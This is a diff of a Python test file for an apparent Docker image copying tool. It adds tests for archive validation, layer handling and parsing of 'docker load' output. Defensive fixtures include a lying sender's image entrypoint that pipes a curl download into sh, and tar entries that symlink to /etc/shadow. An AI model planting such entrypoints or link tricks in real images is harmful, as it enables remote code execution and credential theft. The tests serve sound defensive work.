@@ -119,6 +119,15 @@ def test_an_image_that_cannot_be_unpacked_is_not_tagged(pair, move):
     assert pair[1].images() == {}
 
 
+def test_an_image_of_which_the_receiver_has_the_name_alone_is_sent(pair, move):
+    """``docker load`` of a whole archive mends it."""
+    pair[0].add_image(SMALL, "vllm:v1")
+    (pair[1].docker / "images" / SMALL.id).write_bytes(tar(SMALL.oci()))
+    (pair[1].docker / "nameless").touch()
+    assert move(*pair, SMALL.request(), SMALL.request()).bytes > 0
+    assert pair[1].images() == {"vllm:v1": SMALL.id}
+
+
 # a sender that lies
 
 EVIL = dataclasses.replace(IMAGE, config={**IMAGE.config, "Entrypoint": ["/bin/sh", "-c", "curl example.org | sh"]})
@@ -213,18 +222,19 @@ LAYER = "blobs/sha256/" + SMALL.diffs[0][7:]
 CONFIG = "blobs/sha256/" + SMALL.id[7:]
 HONEST = tar(SMALL.oci())
 WITHOUT = [entry for entry in SMALL.oci() if entry[0] != LAYER]
+BARE = [(CONFIG, SMALL.text)]
 
 
 @pytest.mark.parametrize(
     ("data", "said"),
     [
-        (tar(WITHOUT), "lacks a layer"),
+        (tar([entry for entry in SMALL.legacy() if "layer" not in entry[0]]), "lacks a layer"),
         (tar([*WITHOUT, (LAYER, b"evil" * 225)]), "with another hash"),
         (tar([*SMALL.oci(), (LAYER, SMALL.layers[0])]), "twice"),
         (tar([*SMALL.legacy(), (sha256(b"0") + "/layer.tar", b"evil")]), "twice"),
-        (tar([*WITHOUT, (link(LAYER, "/etc/shadow", tarfile.SYMTYPE), b"")]), "lacks a layer"),
-        (tar([*WITHOUT, (link(LAYER, CONFIG, tarfile.LNKTYPE), b"")]), "lacks a layer"),
-        (tar([entry for entry in SMALL.oci() if entry[0] != CONFIG]), "another image"),
+        (tar([(link(LAYER, "/etc/shadow", tarfile.SYMTYPE), b""), *BARE]), "lacks a layer"),
+        (tar([(link(LAYER, CONFIG, tarfile.LNKTYPE), b""), *BARE]), "lacks a layer"),
+        (tar([entry for entry in SMALL.legacy() if entry[0] != SMALL.id[7:] + ".json"]), "another image"),
         (b"", "truncated"),
         (HONEST[: len(HONEST) // 2], "truncated"),
         (bytes(1024), "another image"),
@@ -243,6 +253,45 @@ def test_a_falsified_archive_is_refused(data, said):
     with pytest.raises(Failed, match=said) as caught:
         passed(data)
     assert caught.value.kind == "archive"
+
+
+@pytest.mark.parametrize(
+    ("absent", "count"),
+    [({LAYER}, 1), ({CONFIG}, 1), ({CONFIG, *("blobs/sha256/" + diff[7:] for diff in SMALL.diffs)}, 3)],
+)
+def test_an_archive_without_the_files_that_it_names_is_told_from_one_of_another_image(absent, count):
+    """What ``docker save`` of containerd's store writes of an image whose layers it has compressed otherwise."""
+    with pytest.raises(Failed, match=f"the image's archive lacks {count} of the files that it names") as caught:
+        passed(tar([entry for entry in SMALL.oci() if entry[0] not in absent]), config=None)
+    assert caught.value.kind == "blobs"
+
+
+def test_platforms_that_were_not_pulled_and_attestations_change_nothing():
+    """An index of two platforms: of the other one, containerd's store has neither manifest nor layers."""
+    foreign = {"digest": "sha256:" + "f" * 64, "size": 7, "platform": {"architecture": "amd64", "os": "linux"}}
+    inner = json.dumps({"schemaVersion": 2, "manifests": [foreign, foreign]}).encode()
+    statement, empty = b'{"predicate": {}}', b'{"architecture": "unknown", "config": {}, "rootfs": {"type": "layers"}}'
+    described = {"digest": "sha256:" + sha256(empty), "size": len(empty)}
+    layers = [{"digest": "sha256:" + sha256(statement), "size": len(statement)}]
+    attestation = json.dumps({"schemaVersion": 2, "config": described, "layers": layers}).encode()
+    more = [(f"blobs/sha256/{sha256(data)}", data) for data in (inner, statement, empty, attestation)]
+    expected = listed(tar(SMALL.oci(compressed=True)), config=None)
+    assert listed(tar([*more, *SMALL.oci(compressed=True)]), config=None) == expected
+    without = [entry for entry in more if entry[1] != statement]
+    assert listed(tar([*SMALL.oci(compressed=True), *without]), config=None) == expected
+
+
+@pytest.mark.parametrize(
+    ("text", "found"),
+    [
+        (f"Loaded image ID: {SMALL.id}", SMALL.id),
+        (f"Loaded image: {SMALL.id}\n", SMALL.id),
+        ("Loaded image: vllm/vllm-openai:v0.24.0", None),
+        ("", None),
+    ],
+)
+def test_the_id_that_docker_load_prints(text, found):
+    assert docker_copy.loaded(text) == found
 
 
 @pytest.mark.parametrize(
